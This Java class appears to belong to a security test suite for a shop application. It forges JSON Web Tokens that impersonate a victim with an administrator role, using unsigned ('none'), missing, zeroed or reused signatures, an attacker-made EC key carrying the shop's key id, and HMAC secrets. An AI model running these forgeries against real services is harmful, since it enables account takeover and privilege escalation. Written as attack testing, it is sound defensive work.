package dev.souk.system.attack;

import static java.nio.charset.StandardCharsets.UTF_8;

import dev.souk.tools.client.SoukClient;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.Signature;
import java.util.Arrays;
import java.util.Base64;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/** Makes tokens with the attacker's claims, but the subject of the victim and the role of an admin. */
final class Forger {

    private static final int COORDINATE_BYTES = 32;

    private static final KeyPair OWN = newKey();

    private final String[] real;
    private final String claims;

    Forger(Context context) {
        this.real = context.value("attacker.token").split("\\.", -1);
        this.claims = decode(real[1])
                .replace(subject(context.value("attacker.token")), subject(context.value("victim.token")))
                .replace("CUSTOMER", "ADMIN");
    }

    /** What the provider calls the user, which is not the id of the account at each one. */
    private static String subject(String token) {
        return SoukClient.parse(decode(token.split("\\.", -1)[1])).path("sub").asString();
    }

    private static KeyPair newKey() {
        try {
            KeyPairGenerator generator = KeyPairGenerator.getInstance("EC");
            generator.initialize(8 * COORDINATE_BYTES);
            return generator.generateKeyPair();
        } catch (GeneralSecurityException impossible) {
            throw new IllegalStateException(impossible);
        }
    }

    /** The name of the key that the shop signs with. */
    String keyId() {
        return SoukClient.parse(decode(real[0])).path("kid").asString("");
    }

    /** The public part of the attacker's key, as in a key set; the encoded key ends with both coordinates. */
    String ownKey() {
        byte[] encoded = OWN.getPublic().getEncoded();
        int y = encoded.length - COORDINATE_BYTES;
        return "{\"kty\":\"EC\",\"crv\":\"P-256\",\"kid\":\"%s\",\"x\":\"%s\",\"y\":\"%s\"}"
                .formatted(
                        keyId(),
                        encode(Arrays.copyOfRange(encoded, y - COORDINATE_BYTES, y)),
                        encode(Arrays.copyOfRange(encoded, y, encoded.length)));
    }

    /**
     * A token with this header.
     *
     * @param key what it is signed with: {@code none} for an empty signature, {@code missing} for not even that,
     *     {@code zeros}, {@code another} for the signature of another token, {@code own} for a key of the attacker, or
     *     {@code hmac} and a secret
     */
    String token(String jose, String key) {
        String signed = encode(jose.getBytes(UTF_8)) + "." + encode(claims.getBytes(UTF_8));
        return switch (key) {
            case "missing" -> signed;
            case "none" -> signed + ".";
            case "another" -> signed + "." + real[2];
            case "zeros" -> signed + "." + encode(new byte[2 * COORDINATE_BYTES]);
            default -> signed + "." + encode(signature(key, signed.getBytes(UTF_8)));
        };
    }

    private byte[] signature(String key, byte[] signed) {
        try {
            if (key.equals("own")) {
                Signature signature = Signature.getInstance("SHA256withECDSAinP1363Format");
                signature.initSign(OWN.getPrivate());
                signature.update(signed);
                return signature.sign();
            }
            Mac mac = Mac.getInstance("HmacSHA256");
            String secret = key.replaceFirst("hmac ", "");
            mac.init(new SecretKeySpec(secret.getBytes(UTF_8), "HmacSHA256"));
            return mac.doFinal(signed);
        } catch (GeneralSecurityException impossible) {
            throw new IllegalStateException(impossible);
        }
    }

    private static String encode(byte[] bytes) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
    }

    private static String decode(String part) {
        return new String(Base64.getUrlDecoder().decode(part), UTF_8);
    }
}
